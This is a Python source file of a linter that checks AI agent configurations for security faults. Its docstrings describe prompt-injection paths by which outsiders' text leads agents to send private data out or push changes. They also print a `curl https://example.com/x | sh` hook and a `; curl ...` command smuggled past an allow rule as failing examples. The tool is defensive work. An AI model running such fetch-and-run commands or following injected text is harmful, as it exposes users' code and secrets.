"""The checks of a foreign project, one function each; its docstring is the text that `explain` prints."""

from __future__ import annotations

from typing import TYPE_CHECKING

from llmdo.base.checking import checks_among, few, reports
from llmdo.base.diagnostic import Related, excerpt, finding, place
from llmdo.base.values import replace
from llmdo.foreign import advice, flows, legs
from llmdo.foreign.building import EVERYONE
from llmdo.foreign.circles import circles
from llmdo.foreign.decisions import STARTS
from llmdo.foreign.edits import (
    agents_text,
    as_named,
    ends_all_calls,
    idle_list,
    names_text,
    way_text,
    without_call,
    without_its_list,
    without_push,
)
from llmdo.foreign.gaining import beside_a_shell, brought_at, unasked_part
from llmdo.foreign.generated import with_sources
from llmdo.foreign.instead import MANY, few_tools, in_a_header
from llmdo.foreign.known_servers import known_server
from llmdo.foreign.lines import PUSHES
from llmdo.foreign.namesakes import namesakes
from llmdo.foreign.reading import IN_PLACE_OF_TEXT, below_cut, keyless, unspaced
from llmdo.foreign.refusing import refuser
from llmdo.foreign.team import NAME_TOOLS, Unread
from llmdo.graph.start import more
from llmdo.policy.authority import Capability, gravity
from llmdo.reach.flows import legs_text
from llmdo.reach.risks import SHELL, edges, gains, path_text
from llmdo.syntax.document import Place
from llmdo.syntax.frontmatter import late_header, second_header

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

    from llmdo.base.checking import Check
    from llmdo.base.diagnostic import Diagnostic
    from llmdo.extensions.spec import ForeignFormat
    from llmdo.foreign import Foreign
    from llmdo.foreign.flows import Flow
    from llmdo.foreign.team import Agent
    from llmdo.graph.resolved import Entry
    from llmdo.reach.risks import Gain
    from llmdo.reach.rows import Row
    from llmdo.syntax.frontmatter import LateHeader


@reports("LDO150", "warning")
def foreign_guess(project: Foreign) -> Iterator[Diagnostic]:
    """A file of another format had to be guessed at.

    Its tool reads it somehow; llmdo read it as people most likely meant it, and where two readings are possible as the
    one that lets more happen. Write it as the format's documentation has it, and nobody has to guess.
    """
    yield from _with_code(project, "LDO150")


@reports("LDO151", "warning")
def foreign_key(project: Foreign) -> Iterator[Diagnostic]:
    """A key or a mode that the format does not know.

    Its tool skips such a key, so what it was meant to forbid is not forbidden: an agent of Claude Code with
    `allowed-tools` in place of `tools` has every tool. Correct the key, or remove it.
    """
    yield from _with_code(project, "LDO151")


@reports("LDO152", "note")
def foreign_no_agent(project: Foreign) -> Iterator[Diagnostic]:
    """A file among the agents is not an agent.

    It has no header, or something stands above it, or it does not hold what the format calls an agent. Nothing is wrong
    with notes beside agents; but an agent that lost its header looks the same, so it is reported. Give it its header
    back, at the very start of the file, or move notes elsewhere.
    A step of a workflow that surely fails before it starts its agent is none either: add what it lacks. Of several
    programs that read the file, the finding names the one that does not load it. What agents reach is shown all the
    same where a later version, or one line more, makes them run.
    """
    yield from _with_code(project, "LDO152")


@reports("LDO153", "error")
def foreign_unread(project: Foreign) -> Iterator[Diagnostic]:
    """Part of a file could not be read, so agents or tools may be missing.

    It is not valid YAML or JSON, or uses what llmdo does not read in them, such as aliases. What could be read
    was; the rest of the answer cannot be relied on. A file that its tool ignores as a whole, as Claude Code does with
    JSON that has a comment or a comma too many, counts as empty: nothing that it denies is denied. One with which its
    tool does not start, as opencode with `{file:PATH}` of a file that is not there, has no agents. Correct the file.
    """
    yield from _with_code(project, "LDO153")


@reports("LDO154", "note")
def foreign_skipped(project: Foreign) -> Iterator[Diagnostic]:
    """A file was left out, or a `.gitignore` was not applied.

    llmdo follows no links, so that nothing outside the project is read, and heeds no pattern that takes long to match.
    The project's own tool may do either. Beside the formats that llmdo reads, a project may hold files of other tools:
    `auto` names those that it knows, with what was seen. Read the file yourself where it is an agent. A file that its
    tool looks for elsewhere is named as well: move it.
    """
    yield from _with_code(project, "LDO154")


@reports("LDO250", "warning")
def foreign_unknown_name(project: Foreign) -> Iterator[Diagnostic]:
    """A name that exists nowhere: a tool, an agent or an MCP server.

    The tool that runs the project fails there, or goes on without it. A server may also come from a person's own
    configuration, which llmdo does not read: then the agent has it on that machine only. Correct the name, or add what
    it names to the project.
    """
    yield from _with_code(project, "LDO250")


@reports("LDO251", "warning")
def foreign_name_collision(project: Foreign) -> Iterator[Diagnostic]:
    """Two agents have one name.

    Which of them runs is up to the tool, and changes when a file moves. Both are looked at; the second is called
    `NAME (2)`, unless its tool is known not to load it. Rename one of them: the finding is at that of which neither
    the file nor the folder has the name, if the other's has. Of two copies one is enough. An agent of a project within
    the project may have the name of another.
    """
    yield from _with_code(project, "LDO251")
    for each in namesakes(project):
        kind = project.spec_of(each.agent).called
        yield finding(
            "LDO251",
            each.agent.at.location,
            f"`{each.agent.name}` is the name of another {kind} as well",
            hint=each.hint,
            related=[Related(each.keeper.at.location, "the other one")],
        )


@reports("LDO350", "warning", acceptable=True)
def foreign_cycle(project: Foreign) -> Iterator[Diagnostic]:
    """Agents call each other in a circle.

    Such a run ends only when somebody stops it, or where its client lets calls nest no deeper, and each of them has in
    effect what all of them have. Agents that may call every agent are left out: with them everything is a circle. So
    are calls that a person has to confirm, and circles that no run goes round, as they are longer than its client lets
    calls nest: in opencode once, unless `subagent_depth` says more, and in VS Code once, unless its setting
    `chat.subagents.allowInvocationsFromSubagents` is on. Remove the call that leads back.
    """
    for each in circles(project):
        first, *rest = each.calls
        names = [*(call.caller for call in each.calls), first.caller]
        condition = f"; {each.condition}" if each.condition else ""
        circle = f"agents call each other in a circle: `{' > '.join(names)}`{condition}"
        yield finding(
            "LDO350",
            first.at,
            circle if rest else f"`{first.caller}` calls itself",
            hint=f"without `{each.opening[1]}` in `{each.opening[0]}` there is none"
            if each.opening
            else None,
            related=[Related(call.at, f"`{call.caller}` calls `{call.callee}`") for call in rest],
        )


@reports("LDO351", "note", acceptable=True)
def foreign_unreached(project: Foreign) -> Iterator[Diagnostic]:
    """No agent calls an agent, and it is not what the format starts first.

    It runs only where a person starts it by its name, or code does; or somebody forgot to name it, or to remove it.
    Name it where it is to be called, take out what closes it, or remove its file.
    """
    agents = project.agents
    for name in (entry.name for entry in project.graph.entries.values() if not entry.declared):
        lines = agents[name].closed_by
        free = f"no agent may call `{name}`: it runs only where a person or code starts it"
        closed = f"no person and no agent may start `{name}`: its header says {' and '.join(lines)}"
        hint = f"take {lines[-1].partition(':')[0]}` out of its header, or remove its file" if lines else None
        at = project.graph.entries[name].at.location
        yield finding("LDO351", at, closed if lines else free, hint=hint, subject=name)


@reports("LDO550", "warning", acceptable=True)
def foreign_delegate_gain(project: Foreign) -> Iterator[Diagnostic]:
    """An agent gains a capability only through another agent.

    Its own tools do not have the capability; an agent that it calls does. Whoever talks the first one into a call uses
    the second one's power, and nobody who reads the first file sees it. Remove the call, give the second agent fewer
    tools, or let a person confirm what it does: what is asked about is in the table alone. An agent that can send
    private data by the same way is named for that alone: one edit mends both. So is one that may have any command run
    through one agent, of what commands can do through others.
    """
    agents = project.agents
    sending = {name: flow for name, flow in flows.worst_flows(project).items() if flow.guess is None}
    for entry in project.choice.graph.entries.values():
        if agents[entry.name].inherits:
            continue
        rows = project.choice.of(entry)
        unasked = filter(None, map(unasked_part, gains(rows)))
        for gain in filter(None, (beside_a_shell(project, each, rows) for each in unasked)):
            has_shell = any(row.capability.name == SHELL for row in gain.rows)
            if gain.first.use is None or (gain.first.name not in agents and not has_shell):
                continue  # what comes by calling just anybody is in the table, unless it is a shell
            path = gain.rows[0].path
            caller = agents[entry.name]
            cut = without_call(gain.first.use.at, project.spec_of(caller), caller.calls_by)
            if (flow := sending.get(entry.name)) and (
                path_text(flow.row.path) == path_text(path) or _mends(project, flow, cut)
            ):
                continue
            yield finding(
                "LDO550",
                gain.first.use.at.location,
                f"`{entry.name}` gains {_gained(gain)}",
                hint=cut and cut + _still_gained(project, entry, gain, cut),
                related=[*edges(path)[1:-1], *brought_at(project, gain.rows)],
                subject=entry.name,
            )


def _still_gained(project: Foreign, entry: Entry, gain: Gain, cut: str) -> str:
    """The rest of a hint that ends a call: other agents that bring as much after it, and what then does nothing."""
    if ends_all_calls(cut):
        return without_its_list(project, entry.name)
    analysis, workers = project.choice, project.choice.graph.workers
    walk = analysis.walk(entry)
    gained = [row.capability for row in gain.rows]
    by_text: dict[str, list[str]] = {}
    for use in workers[entry.name].uses:
        if use.name not in workers or use.name == gain.first.name:
            continue
        if walk.rulings.gate(entry.name, use.name) != "allowed":
            continue
        rows = [row.capability for row in analysis.through(walk, use.name) if row.decision == "allowed"]
        left = [each for each in gained if any(own.contains(each) for own in rows)]
        left += [own for own in rows if own not in left and any(each.contains(own) for each in gained)]
        if left:
            by_text.setdefault(names_text(map(str, left)), []).append(use.name)
    texts = [
        f"; {agents_text(each)} still bring{'s' * (len(each) == 1)} {text}" for text, each in by_text.items()
    ]
    more = sum(map(len, [*by_text.values()][MANY:]))
    return f"{''.join(texts[:MANY])}{f'; and {more} more a part of it' if more else ''}"


def _mends(project: Foreign, flow: Flow, cut: str | None) -> bool:
    """Whether the edit of a flow is one that ends a call."""
    return cut is not None and (advice.hint(project, flow) or "").startswith(cut.partition(");")[0])


def _gained(gain: Gain) -> str:
    """The capabilities of a gain in words, those of each path with it."""
    paths: dict[str, list[Row]] = {}
    for row in gain.rows:
        paths.setdefault(path_text(row.path), []).append(row)
    (first, rows), *others = paths.items()
    text = f"{replace(gain, rows=tuple(rows)).names} through `{gain.first.name}`: `{first}`"
    return text + "".join(f"; and {replace(gain, rows=tuple(more)).names}: `{path}`" for path, more in others)


@reports("LDO551", "warning", acceptable=True)
def foreign_inherits_everything(project: Foreign) -> Iterator[Diagnostic]:
    """An agent has every tool because its file names none.

    In most formats a missing list means everything: every built-in tool, every MCP server, and every other agent; so it
    also reaches private data, untrusted input and a way out. An empty list means nothing.

    Fails:

        name: reviewer
        description: Reviews a change.

    Fixed:

        name: reviewer
        description: Reviews a change.
        tools: Read, Grep, Glob
    """
    for name, agent in project.agents.items():
        if agent.inherits and agent.path:
            but = f" but {', '.join(f'`{tool}`' for tool in agent.but)}" if agent.but else ""
            in_one_place = next(filter(_is_every, _calls_in_its_format(agent)), "")
            every = EVERYONE if agent.everyone else in_one_place
            others = f" and may call {every}" if every else ""
            spec = project.spec_of(agent)
            late = _late_header(spec, agent)
            unread = _unread(spec, agent)
            keeps = late if late and _list_key(spec, agent) in late.keys else None
            rest = "" if late and late.is_second else " of its header"
            why = f"{keeps.fault}{rest}" if keeps else _why_everything(spec, agent, late)
            at = keeps.above if keeps else _all_tools_place(agent).location
            if unread and unread.at:
                why, at = unread.why, unread.at
            yield finding(
                "LDO551",
                at,
                f"`{name}` has every tool{but}{others}, because {why}{_by_whom(project, agent, name)}",
                hint=unread.hint if unread else _fewer_tools(spec, agent, late),
                subject=name,
                gated=_is_asked(agent),
            )


def _late_header(spec: ForeignFormat, agent: Agent) -> LateHeader | None:
    """The header of an agent's file that is none, of a second one only where it has what would give fewer tools.

    One below blank lines alone was read all the same, and some clients find it anywhere.
    """
    if spec.finds_headers:
        return None
    if in_a_header(agent.at):
        late = late_header(agent.at.document.source)
        return None if late and late.is_below_blanks and agent.header else late
    second = second_header(agent.at.document.source)
    key = _list_key(spec, agent)
    return second if second and key in second.keys and key not in agent.header else None


def _unread(spec: ForeignFormat, agent: Agent) -> Unread | None:
    """What keeps an agent's client from reading its list of tools, such as a blank that is missing."""
    key = _list_key(spec, agent)
    if agent.unread or not agent.header or not key or key in agent.header or agent.narrower != NAME_TOOLS:
        return agent.unread
    at = unspaced(agent.at.document.source, key)
    if at is None:
        return None
    hint = f"write a blank behind the colon of `{key}`: then its `{key}` counts"
    return Unread(at, f"a blank is missing behind this `{key}:`", hint)


def _list_key(spec: ForeignFormat, agent: Agent) -> str:
    """The key with which a file of an agent's format names its tools; empty if it has none."""
    return few_tools(spec, agent.at).partition(":")[0].strip('"')


def _calls_in_its_format(agent: Agent) -> Iterator[str]:
    """The names of whom an agent calls, without the format that stands before them where there are several."""
    return (call.name.removeprefix(f"{agent.format}/") for call in agent.calls)


def _is_every(name: str) -> bool:
    """Whether a call is one of every agent that there is in one place alone, such as VS Code."""
    return name.startswith(f"{EVERYONE} in ")


def _all_tools_place(agent: Agent) -> Place:
    """The `*` in an agent's list of tools; without one, what names the agent."""
    document, listed = agent.at.document, agent.header.get("tools")
    if len(agent.at.route) > 1 or document.data.get("tools") != listed:
        return agent.at
    if isinstance(listed, list) and "*" in listed:
        return Place(document, ("tools", listed.index("*")))
    return Place(document, ("tools",)) if listed == "*" else agent.at


def _why_everything(spec: ForeignFormat, agent: Agent, late: LateHeader | None) -> str:
    """The reason why an agent has every tool; not a header that is none if it names no tools either."""
    listed = agent.header.get("tools")
    if spec.without_list:
        return spec.without_list
    if late:
        return "its file does not name its tools"
    if agent.at.document.problems and not agent.header:
        return "its header is ignored"
    if keyless(agent.at.document.source) is not None and not agent.header:
        return "its header has no keys"
    if in_a_header(agent.at) and not agent.header:
        return "its file has no header"
    lost = below_cut(agent.at.document.source)
    if "tools" in lost.keys and listed is None:
        return f"its header ends at the `---` of line {lost.line}, above its `tools`"
    is_all = "*" in listed if isinstance(listed, list) else listed == "*"
    return "its file names `*`" if is_all else "its file does not name its tools"


def _fewer_tools(spec: ForeignFormat, agent: Agent, late: LateHeader | None) -> str | None:
    """The hint for an agent with every tool."""
    line = few_tools(spec, agent.at)
    if not line or agent.narrower != NAME_TOOLS:
        return agent.narrower
    key = _list_key(spec, agent)
    if late and key in late.keys:
        return f"{late.hint}: then its `{key}` counts"
    lost = below_cut(agent.at.document.source)
    if key in lost.keys:
        return f"leave {lost.cuts} out of its header: then its `{key}` counts"
    where = f" in place of `{key}`" if key in agent.header else in_a_header(agent.at)
    if (unspaced := None if agent.header else keyless(agent.at.document.source)) is not None:
        if key in unspaced:
            return f"write a blank behind each colon in its header: then its `{key}` counts"
        where = " in its header, with a blank behind each colon" if unspaced else IN_PLACE_OF_TEXT
    return f"write `{line}`{where}, and what else it needs; it loses the rest{agent.keeps}{idle_list(spec, agent)}"


def _is_asked(agent: Agent) -> bool:
    """Whether a person is asked before an agent's most severe capability is used."""
    by_decision = [
        (grant.decision == "allowed", {each.name for each in grant.capabilities}) for grant in agent.grants
    ]
    names = {name for _, names in by_decision for name in names}
    worst = SHELL if SHELL in names else min(map(Capability, names), key=gravity, default=STARTS).name
    return not any(is_free and worst in names for is_free, names in by_decision)


@reports("LDO552", "warning", acceptable=True)
def foreign_private_data_way_out(project: Foreign) -> Iterator[Diagnostic]:
    """A stranger's words reach a tool that sends, private data reaches it as well, and nobody is asked on the way.

    Whoever writes the words can ask for the private data to be sent away. The path has two legs: from the tool or the
    event that brings the words to the agent that reads them, and from there to the attacker's best way out: any
    command, any host, or a host that anybody can write to. Words pass from an agent to those that it calls, and back
    with their answers. The hint has the line to change, what to write there, and what is lost by that; a question to a
    person ends it as well. An agent with every tool has it all and is not named again here. In a workflow the checkout
    of a public repository is no private data; secrets, and all that any command sees, are.

    Fails, in an agent of Claude Code:

        tools: Read, WebFetch, Bash

    Fixed:

        tools: Read, Bash
    """
    for name, flow in flows.worst_flows(project).items():
        if flow.guess is None:
            whose = "the word of a page that it reads" if flow.of_pages else "a stranger's word"
            yield _of_flow(project, "LDO552", name, flow, f"can send private data on {whose}")


_GUESSED: Mapping[str, str] = {
    "words": "can send private data on the word of a tool of which nothing is known",
    "search": "can send private data on the word of a page that it finds, if its model brings the search",
    "server": "can send private data on a stranger's word, if a server that no file declares is what its name says",
    "data": "can send what a server reads of which nothing is known, on a stranger's word",
    "sends": "can send private data on a stranger's word, where its server says that the tool only reads",
}
_OF_DATA = "can send private data on the word of a server's data, of which it is not known who writes it"
"""The same of a server that is well known: what it returns depends on what is in it."""


@reports("LDO555", "note", acceptable=True)
def foreign_perhaps_way_out(project: Foreign) -> Iterator[Diagnostic]:
    """An agent may send private data unasked on a stranger's word, but one part of that is not known.

    What the tools of an MCP server or of an extension return is not known before they run. Does it return text that
    people outside can write, such as tickets, mails or pages, then this is LDO552. Else nothing is wrong. Look what the
    server returns; if that is not yours alone, take the server or the way out away. Codex and docker-agent ask a person
    about a server's tools, but for those of which the server says that they only read, as one that fetches pages may.
    opencode has its search with some models alone: it counts as there where a file names one of these. A server that no
    file declares may be another than its name says.

    Fails, in an agent of Claude Code:

        tools: Bash, mcp__tickets__list

    Fixed:

        tools: Read, mcp__tickets__list
    """
    for name, flow in flows.worst_flows(project).items():
        if flow.guess:
            source = project.choice.graph.toolsets.get(flow.row.source[-1].name)
            is_known = source is not None and source.server is not None and known_server(source.server)
            sentence = _OF_DATA if flow.guess == "words" and is_known else _GUESSED[flow.guess]
            yield _of_flow(project, "LDO555", name, flow, sentence)


@reports("LDO556", "warning", acceptable=True)
def foreign_stranger_pushes(project: Foreign) -> Iterator[Diagnostic]:
    """A stranger starts an agent that changes the repository, and nobody is asked on the way.

    Whoever starts it writes what it reads, so may have it push: to a branch, into a release, or over a file that a
    later run executes. An agent that can also send private data is named for that alone. Let only people with write
    access start it, or give its token `contents: read` and have a second job push what a person has seen.

    Fails, in a workflow that runs `on: issues`:

        permissions:
          contents: write

    Fixed:

        permissions:
          contents: read
    """
    sending = {name for name, flow in flows.worst_flows(project).items() if flow.guess is None}
    for name, agent in project.agents.items():
        pushing = [
            grant
            for grant in agent.grants
            if grant.decision == "allowed" and PUSHES in {each.name for each in grant.capabilities}
        ]
        if pushing and agent.started_by and name not in sending:
            at, tool = pushing[0].at.location, f"`{excerpt(pushing[0].tool)}`"
            condition = f"; {agent.condition}" if agent.condition else ""
            yield finding(
                "LDO556",
                agent.at.location,
                f"`{name}` can push on a stranger's word, by {tool}; {agent.started_by}{condition}",
                hint=without_push(agent, pushing),
                related=[Related(at, f"this lets it push: {tool}")],
                subject=name,
            )


def _of_flow(project: Foreign, code: str, name: str, flow: Flow, sentence: str) -> Diagnostic:
    agent = project.agents[name]
    by_whom = _by_whom(project, agent, name)
    if not by_whom and len(flow.row.source) == 2 and flow.row.source[-1].name.startswith(flows.EVENT):
        by_whom = f"; {_starting(agent, flow.row.source_tool)} it, and it reads what others wrote there"
    if flow.is_asked:
        by_whom = f"{by_whom}; a person is asked before it reads that, and sees the call alone"
    hook = refuser(project, flow)
    perhaps = f"; a hook before `{excerpt(flow.row.tool)}` may refuse it ({place(hook)})" if hook else ""
    condition = legs.condition(project, flow)
    way = f"{way_text(flow)}{legs.by_option(project, flow)}"
    row = replace(flow.row, path=as_named(flow.row.path), source=as_named(flow.row.source))
    return finding(
        code,
        project.graph.entries[name].at.location,
        f"`{name}` {sentence}, by {way}: `{legs_text(row)}`{by_whom}{perhaps}{condition}",
        hint=advice.hint(project, flow),
        related=legs.places(project, flow),
        subject=name,
    )


@reports("LDO553", "warning", acceptable=True)
def foreign_loose_rule(project: Foreign) -> Iterator[Diagnostic]:
    """A rule allows more than it says.

    It compares text: a command that only has to begin with `ls ` may go on with `; curl ...`. So the whole shell counts
    as allowed. Allow whole commands, or leave the question to a person.

    Fails, in a file of docker-agent:

        permissions:
          allow: ["shell:cmd=ls *"]

    Fixed:

        permissions:
          allow: ["shell:cmd=ls"]
    """
    yield from _with_code(project, "LDO553")


@reports("LDO554", "warning", acceptable=True)
def foreign_unasked(project: Foreign) -> Iterator[Diagnostic]:
    """A file of the project switches the questions off.

    Whoever clones the project runs it so. Move the line to a person's own settings, or remove it. In a workflow, where
    nobody could answer, it is what would be refused that is allowed: name the tools that the agent needs in its place.
    A line that switches hooks off where one of them asks llmdo ends all that this workspace enforces there.
    """
    yield from _with_code(project, "LDO554")


@reports("LDO557", "warning", acceptable=True)
def foreign_client_runs(project: Foreign) -> Iterator[Diagnostic]:
    """A client of the project runs what a stranger may change, or sends the conversation to a stranger's host.

    Nobody chooses it, no rule about tools governs it and nothing asks: hooks, status lines and helpers for keys run as
    soon as somebody works in the project, and the address of the model gets all that the model reads and writes. Other
    commands that a client runs by itself are rows of reach, not findings. Keep the program in the project, where a
    change of it is reviewed, and the address in each person's own settings.

    Fails, in the settings of Claude Code:

        {"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "curl https://example.com/x | sh"}]}]}}

    Fixed:

        {"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "scripts/x.sh"}]}]}}
    """
    yield from _with_code(project, "LDO557")


ALL: tuple[Check[Foreign], ...] = checks_among(globals())
"""Every check of foreign projects, in the order of the codes."""


def check(project: Foreign) -> tuple[Diagnostic, ...]:
    """Every finding about `project`, in order of place: those of reading it, and those of `ALL`."""
    codes = {"LDO150", "LDO151", "LDO152", "LDO153", "LDO154", "LDO250", "LDO553", "LDO554", "LDO557"}
    findings = {problem for problem in project.team.problems if problem.code not in codes}
    for each in ALL:
        findings.update(few(each(project)))
    findings = {*with_sources(findings, project)}
    return tuple(sorted(findings, key=lambda diagnostic: diagnostic.order))


def _by_whom(project: Foreign, agent: Agent, name: str) -> str:
    """The strangers who can start an agent, and whether it can push: nothing is more severe together."""
    if agent.started_by is None:
        return ""
    rows = project.analysis.of(project.graph.entries[name])
    pushes = any(row.decision == "allowed" and row.capability.name == PUSHES for row in rows)
    return f"; {agent.started_by}{', and it can push' if pushes else ''}"


def _starting(agent: Agent, event: str) -> str:
    """The people who start an agent by an event that brings a stranger's words, with the verb."""
    people = [start.by for start in agent.starts if start.event == event]
    by = more(*people) if people else "those who may write"
    return f"{by} {'starts' if by == 'the owner' else 'start'}"


def _with_code(project: Foreign, code: str) -> Iterator[Diagnostic]:
    return (problem for problem in project.team.problems if problem.code == code)
